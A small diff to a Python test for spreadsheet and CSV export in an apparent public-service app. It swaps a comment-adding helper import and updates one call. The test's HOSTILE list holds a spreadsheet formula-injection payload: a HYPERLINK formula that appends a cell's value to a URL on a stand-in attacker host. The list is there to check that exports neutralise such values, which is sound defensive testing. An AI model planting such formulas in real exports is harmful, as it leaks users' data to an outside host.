@@ -15,8 +15,7 @@ from openpyxl import Workbook, load_workbook
 
 from sikap.core.spreadsheet import SafeCsvWriter, safe_cell, workbook_bytes
 from sikap.publicservice import domain
-from tests.culture.conftest import make_campaign
-from tests.culture.test_comments import _with_comments
+from tests.culture.conftest import add_comments, make_campaign
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
@@ -68,7 +67,7 @@ def test_culture_excel_and_raw_csv_neutralise_unit_names_and_comments(personas, 
     personas.opd_b.save(update_fields=["name"])
     campaign = make_campaign(personas)
     comments = [HOSTILE[1]] + [f"saran {i}" for i in range(9)]
-    _with_comments(campaign, "DUKCAPIL", comments)
+    add_comments(campaign, "DUKCAPIL", comments)
     from tests.culture.conftest import publish
 
     publish(campaign)
